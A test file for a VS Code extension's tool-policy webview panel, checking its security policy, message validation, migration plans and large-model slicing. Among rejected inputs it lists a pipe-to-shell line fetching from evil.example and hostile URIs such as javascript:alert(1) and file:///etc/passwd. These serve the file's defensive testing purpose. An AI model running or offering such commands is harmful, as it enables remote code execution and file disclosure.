import { strict as assert } from 'node:assert';
import type * as vscode from 'vscode';
import type { Snapshot } from '../../../src/core/snapshot';
import { Emitter } from '../../../src/vscode/emitter';
import { PolicyPanel } from '../../../src/vscode/policyPanel';
import { as, fakeEditor, fileUri, type FakeEditor } from './fakeEditor';
import { formatMessage } from '../../../src/core/present/localize';
import { planView } from '../../../src/core/present/migrationView';
import { samplePlan } from '../migrationFixture';
import { SLICE_MS, type SliceClock } from '../../../src/vscode/slices';
import { manualSliceClock } from './manualSliceClock';
import { CLAUDE_RUNNING, claudePolicy, rulesOnClaude, snapshotOf } from './snapshots';

/** A webview panel as the editor hands it out, recording what is posted to it. */
class FakeWebviewPanel {
  readonly posted: unknown[] = [];
  readonly received = new Emitter<unknown>();
  readonly viewState = new Emitter<void>();
  readonly disposed = new Emitter<void>();
  visible = true;
  revealed = 0;
  title = '';
  iconPath: unknown;
  readonly webview = {
    html: '',
    options: {} as vscode.WebviewOptions,
    cspSource: 'vscode-webview://csp',
    asWebviewUri: (uri: vscode.Uri) => ({ toString: () => `webview:${uri.fsPath}` }),
    onDidReceiveMessage: this.received.event,
    postMessage: async (message: unknown) => { this.posted.push(message); return true; },
  };
  readonly onDidChangeViewState = this.viewState.event;
  readonly onDidDispose = this.disposed.event;
  reveal(): void {
    this.revealed++;
  }
  dispose(): void {
    this.disposed.fire();
  }
}

const settle = () => new Promise((resolve) => setImmediate(resolve));
const SNAPSHOT = snapshotOf(claudePolicy({ extra: ['    links: [{ title: Memo, url: "https://intranet.example/memo" }]'] }), {
  extensions: CLAUDE_RUNNING,
  terminalNames: ['Claude Code'],
});

describe('the policy panel (editor layer, through fakes)', () => {
  let editor: FakeEditor;
  let created: FakeWebviewPanel[];
  let published: Emitter<Snapshot>;
  let current: Snapshot;
  let uninstalled: Array<[string, string]>;
  let focused: string[];
  let panel: PolicyPanel;

  let moves: string[];
  const build = (openExternal?: (url: string) => unknown, slices?: SliceClock) => new PolicyPanel(fileUri('/ext'), {
    uninstall: async (id, name) => { uninstalled.push([id, name]); },
    focusTerminal: (name) => { focused.push(name); },
    planMigration: (ruleId) => { moves.push(`plan ${ruleId}`); },
    applyMigration: (planId) => { moves.push(`apply ${planId}`); },
    closeMigration: (planId) => { moves.push(`close ${planId}`); },
    ...(openExternal ? { openExternal } : {}),
  }, { get current() { return current; }, onDidPublish: published.event }, as<ConstructorParameters<typeof PolicyPanel>[3]>({
    ...editor,
    window: { ...editor.window, createWebviewPanel: (_type: string, title: string, _column: number, options: vscode.WebviewOptions) => {
      const made = new FakeWebviewPanel();
      made.title = title;
      made.webview.options = options;
      created.push(made);
      return made;
    } },
  }), slices);

  beforeEach(() => {
    editor = fakeEditor();
    created = [];
    published = new Emitter<Snapshot>();
    current = SNAPSHOT;
    uninstalled = [];
    focused = [];
    moves = [];
    panel = build();
    panel.show();
  });
  afterEach(() => panel.dispose());

  const webview = () => created[0] as FakeWebviewPanel;
  const models = () => webview().posted.filter((m): m is { type: 'model'; model: unknown } => (m as { type?: string }).type === 'model');

  it('opens one panel with a strict content security policy and only the extension\'s own script', () => {
    const { html } = webview().webview;
    assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src vscode-webview:\/\/csp; img-src vscode-webview:\/\/csp; font-src vscode-webview:\/\/csp; script-src 'nonce-[A-Za-z0-9+/=]{24}'">/);
    assert.match(html, /<script nonce="[A-Za-z0-9+/=]{24}" src="webview:\/ext\/media\/panel\.js"><\/script>/);
    assert.match(html, /<html lang="en">/);
    const { localResourceRoots, ...options } = webview().webview.options as vscode.WebviewPanelOptions & vscode.WebviewOptions;
    assert.deepEqual(options, { enableScripts: true, retainContextWhenHidden: false, enableFindWidget: true });
    assert.deepEqual(localResourceRoots?.map((uri) => uri.fsPath), ['/ext/media'], 'the webview may load only the media folder');
    panel.show();
    assert.equal(created.length, 1, 'shown again, not opened twice');
    assert.equal(webview().title, 'Tool Policy');
    assert.equal(webview().revealed, 1);
  });

  it('ready: answered with the model; the model follows every published snapshot and a panel coming back into view', async () => {
    assert.equal(panel.receive({ type: 'ready' }).accepted, true);
    assert.equal(models().length, 1, 'posted when the webview is ready for it');
    assert.equal(panel.receive({ type: 'ready', model: {} }).accepted, false);
    current = snapshotOf(claudePolicy({ id: 'renamed' }), { extensions: CLAUDE_RUNNING });
    published.fire(current);
    assert.equal((models().at(-1)?.model as { cards: Array<{ ruleId: string }> }).cards[0]?.ruleId, 'renamed');
    webview().viewState.fire();
    assert.equal(models().length, 3);
    webview().visible = false;
    webview().viewState.fire();
    assert.equal(models().length, 3, 'a hidden panel is sent nothing');
  });

  it('copy: only a command the alternative names reaches the clipboard, and the status bar says so', async () => {
    assert.deepEqual(panel.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
    assert.equal(panel.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
    await settle();
    assert.deepEqual(editor.clipboard, ['qodercli']);
    assert.deepEqual(editor.window.statusBarMessages, ['Copied “qodercli”']);
  });

  it('focusTerminal: only a terminal the evidence names', () => {
    assert.deepEqual(panel.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
    assert.equal(panel.receive({ type: 'focusTerminal', name: 'Claude Code' }).accepted, true);
    assert.deepEqual(focused, ['Claude Code']);
  });

  it('installAlternative: only an extension the alternative names, through the editor\'s install command; a failure is shown', async () => {
    assert.deepEqual(panel.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
    assert.equal(panel.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }).accepted, true);
    await settle();
    assert.deepEqual(editor.commandsRun, [['workbench.extensions.installExtension', 'qoder.qoder-vscode']]);
    editor.commands.executeCommand = async () => { throw new Error('offline'); };
    panel.receive({ type: 'installAlternative', extensionId: 'qoder.qoder-vscode' });
    await settle();
    assert.deepEqual(editor.shown.map((m) => m.message), ['Could not install qoder.qoder-vscode: Error: offline']);
  });

  it('uninstall: only an extension the findings name, by the id the editor reported, with the tool\'s name', () => {
    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ms-python.python' }).accepted, false);
    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'tool-policy.tool-policy-notices' }).accepted, false);
    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ANTHROPIC.CLAUDE-CODE' }).accepted, true);
    assert.deepEqual(uninstalled, [['anthropic.claude-code', 'Claude Code']]);
  });

  it('openExternal: only an https: link the policy names, through the editor\'s opener or the one given', async () => {
    for (const url of ['https://evil.example/', 'javascript:alert(1)', 'command:workbench.action.quit', 'file:///etc/passwd']) {
      assert.deepEqual(panel.receive({ type: 'openExternal', url }), { accepted: false, reason: 'the policy names no such https: link' }, url);
    }
    assert.equal(panel.receive({ type: 'openExternal', url: 'https://intranet.example/memo' }).accepted, true);
    await settle();
    assert.deepEqual(editor.opened, ['https://intranet.example/memo']);
    const opened: string[] = [];
    const own = build((url) => opened.push(url));
    try {
      own.show();
      own.receive({ type: 'openExternal', url: 'https://qoder.com/' });
      assert.deepEqual(opened, ['https://qoder.com/']);
      assert.deepEqual(editor.opened, ['https://intranet.example/memo']);
    } finally {
      own.dispose();
    }
  });

  it('anything that is not exactly a panel message is refused and does nothing', async () => {
    for (const message of [null, 'copy', [], { type: 'copy' }, { type: 'copy', text: 'qodercli', extra: true }, { type: 'eval', code: '1' }, { type: 'openExternal', url: ['https://qoder.com/'] }]) {
      assert.equal(panel.receive(message).accepted, false, JSON.stringify(message));
    }
    webview().received.fire({ type: 'eval', code: 'alert(1)' });
    await settle();
    assert.deepEqual([editor.clipboard, editor.opened, editor.commandsRun, uninstalled, focused], [[], [], [], [], []]);
  });

  it('Move my setup: plans only for a card that offers it, applies and closes only the plan shown, and shows the plan again to a new webview', () => {
    assert.equal(panel.receive({ type: 'planMigration', ruleId: 'claude-ban' }).accepted, false, 'the rule names no alternative.tool');
    current = snapshotOf(claudePolicy({ alternativeTool: 'qoder' }), { extensions: CLAUDE_RUNNING });
    published.fire(current);
    assert.equal(panel.receive({ type: 'planMigration', ruleId: 'claude-ban' }).accepted, true);
    assert.equal(panel.receive({ type: 'applyMigration', planId: 'p1' }).accepted, false, 'no plan shown yet');
    const view = planView('p1', samplePlan('qoder'), { fromName: 'Claude Code', toName: 'Qoder' }, formatMessage);
    panel.showMigration(view);
    assert.deepEqual(webview().posted.at(-1), { type: 'migration', view });
    assert.equal(panel.receive({ type: 'applyMigration', planId: 'p0' }).accepted, false);
    assert.equal(panel.receive({ type: 'applyMigration', planId: 'p1' }).accepted, true);
    assert.equal(panel.receive({ type: 'closeMigration', planId: 'p1' }).accepted, true);
    assert.deepEqual(moves, ['plan claude-ban', 'apply p1', 'close p1']);
    panel.receive({ type: 'ready' });
    assert.deepEqual(webview().posted.slice(-2).map((m) => (m as { type: string }).type), ['model', 'migration']);
    assert.deepEqual(webview().posted.at(-1), { type: 'migration', view }, 'a reloaded webview gets the plan back');
    panel.showMigration(undefined);
    assert.deepEqual(webview().posted.at(-1), { type: 'migration', view: null });
    assert.equal(panel.receive({ type: 'applyMigration', planId: 'p1' }).accepted, false, 'a plan taken away cannot be applied');
  });

  it('after a reload it takes over the panel the editor restored; a closed panel is opened anew', () => {
    const restored = new FakeWebviewPanel();
    panel.revive(as<vscode.WebviewPanel>(restored));
    assert.match(restored.webview.html, /Content-Security-Policy/);
    assert.equal(restored.webview.options.enableScripts, true);
    assert.equal(restored.posted.length, 0, 'the restored webview asks with ready');
    panel.receive({ type: 'ready' });
    // The model, and no plan: a plan the webview kept from before the reload is taken away.
    assert.deepEqual(restored.posted.map((m) => (m as { type: string }).type), ['model', 'migration']);
    assert.equal((restored.posted[1] as { view: unknown }).view, null);
    restored.dispose();
    panel.show();
    assert.equal(created.length, 2);
  });
  it('a model of hundreds of thousands of pieces of evidence is built in slices, and one built for an older snapshot never replaces a newer one\'s', () => {
    panel.dispose();
    created = [];
    // Every reading a slice later than the last: each slice is one piece.
    const slices = manualSliceClock(SLICE_MS);
    // 300 rules on a tool that 400 installed extensions show: each card lists 400 of them.
    const acme = Array.from({ length: 400 }, (_, i) => ({ id: `acme.x${i}`, version: '1.0.0', enabled: true }));
    const acmeRules = (count: number) => ['version: 1', 'organization: Acme', 'tools:', '  - {id: acme, name: Acme, extensions: ["acme.*"]}', 'rules:',
      ...Array.from({ length: count }, (_, i) => `  - {id: rule-${i}, tool: acme, deadline: 2026-01-01}`), ''].join('\n');
    const large = snapshotOf(acmeRules(300), { extensions: acme });
    const newer = snapshotOf(claudePolicy({ id: 'newer' }), { extensions: CLAUDE_RUNNING });
    current = large;
    panel = build(undefined, slices);
    panel.show();
    assert.equal(panel.receive({ type: 'ready' }).accepted, true);
    assert.equal(models().length, 0, 'nothing shown before the model is built');
    assert.ok(slices.queued.length > 0, 'the rest waits for the next turn');
    current = newer;
    published.fire(newer);
    const ruleIds = (index: number) => (models()[index]?.model as { cards: Array<{ ruleId: string }> }).cards.map((card) => card.ruleId);
    assert.deepEqual(ruleIds(0), ['newer'], 'a small model is shown at once');
    slices.runQueued();
    assert.equal(models().length, 1, 'the older model, finished later, is dropped');
    const latest = snapshotOf(acmeRules(300), { extensions: acme });
    current = latest;
    published.fire(latest);
    assert.equal(models().length, 1);
    slices.runQueued();
    assert.equal(ruleIds(1).length, 200, 'shown once built (its first 200 cards)');
    assert.equal(ruleIds(1)[0], 'rule-0');
    assert.equal(latest.panel.cards.length, 300, 'the whole model, for the report, has every card');
  });
  it('shows the first 200 cards, worst first, and says how many more the exported report has; what it does not show it does not act on', () => {
    current = snapshotOf(rulesOnClaude(250), { extensions: CLAUDE_RUNNING });
    published.fire(current);
    const shown = models().at(-1)?.model as { cards: Array<{ ruleId: string }>; notShown?: string; summary: string };
    assert.equal(shown.cards.length, 200);
    assert.equal(shown.notShown, '50 more findings are not shown here. Export the compliance report (Tool Policy: Export Compliance Report) to see every one.');
    assert.match(shown.summary, /^250 findings/);
    assert.equal(current.panel.cards.length, 250, 'the model itself (and the report built from it) keeps every card');
    const hiddenRule = current.panel.cards[249]?.ruleId as string;
    assert.ok(!shown.cards.some((card) => card.ruleId === hiddenRule));
    assert.deepEqual(panel.receive({ type: 'acknowledge', ruleId: hiddenRule }), { accepted: false, reason: 'no card offers to acknowledge this rule' });
    assert.equal(panel.receive({ type: 'acknowledge', ruleId: shown.cards[0]?.ruleId }).accepted, true);
  });
});
